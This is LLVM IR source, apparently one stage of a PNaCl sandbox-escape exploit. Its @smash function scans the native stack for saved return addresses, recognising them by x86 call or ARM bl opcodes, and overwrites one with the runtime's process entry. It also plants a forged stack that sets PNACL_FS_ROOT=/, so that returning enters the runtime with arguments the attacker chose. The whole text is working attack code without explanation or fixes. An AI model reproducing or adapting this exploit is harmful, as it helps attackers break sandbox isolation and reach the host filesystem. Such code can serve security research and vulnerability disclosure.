; Attack 3: a saved return address above an alloca (allocas live on the native stack)
; replaced by the runtime's process entry, the words above it by the argument it takes (a
; forged initial stack whose environment holds PNACL_FS_ROOT=/): returning enters the
; runtime with arguments the pexe chose. Stage two is attack 2's.
; argv: [1] the address of __pnacl_main, [2] [3] as attack 2, [4] [5] the bounds of the
; program's code.
define internal i32 @smash(i32 %sp, i32 %main, i32 %lo, i32 %hi) {
entry:
  %a = alloca i8, i32 16, align 4
  %base = ptrtoint i8* %a to i32
  br label %scan
scan:
  ; From just above the alloca (whose own bytes are stale: old return addresses).
  %k = phi i32 [ 4, %entry ], [ %k1, %next ]
  %off = mul i32 %k, 4
  %slot = add i32 %base, %off
  %v = call i32 @load32(i32 %slot)
  %above = icmp uge i32 %v, %lo
  %below = icmp ult i32 %v, %hi
  %inside = and i1 %above, %below
  br i1 %inside, label %check, label %next
check:
  ; A return address follows a call: x86's `call rel32` (e8), ARM's `bl` (eb, the top
  ; byte of the word before). Saved registers may hold other code addresses.
  %v5 = sub i32 %v, 5
  %b5 = call i32 @load8(i32 %v5)
  %x86 = icmp eq i32 %b5, 232
  %v1 = sub i32 %v, 1
  %b1 = call i32 @load8(i32 %v1)
  %arm.bl = icmp eq i32 %b1, 235
  %low = and i32 %v, 3
  %aligned = icmp eq i32 %low, 0
  %arm = and i1 %arm.bl, %aligned
  %ret = or i1 %x86, %arm
  br i1 %ret, label %smash, label %next
next:
  %k1 = add i32 %k, 1
  %far = icmp uge i32 %k1, 128
  br i1 %far, label %done, label %scan
smash:
  call void @store32(i32 %slot, i32 %main)
  %arg1 = add i32 %slot, 8
  call void @store32(i32 %arg1, i32 %sp)
  br label %done
done:
  ret i32 %sp
}

define void @_start(i32 %info) {
entry:
  call void @init(i32 %info)
  %two = call i32 @stage_two()
  %s1 = call i32 @arg(i32 1)
  %main = call i32 @parse(i32 %s1)
  %s4 = call i32 @arg(i32 4)
  %lo = call i32 @parse(i32 %s4)
  %s5 = call i32 @arg(i32 5)
  %hi = call i32 @parse(i32 %s5)
  %mem = alloca i8, i32 512, align 16
  %m = ptrtoint i8* %mem to i32
  %sp = call i32 @forge_stack(i32 %m)
  %r = call i32 @smash(i32 %sp, i32 %main, i32 %lo, i32 %hi)
  ret void
}
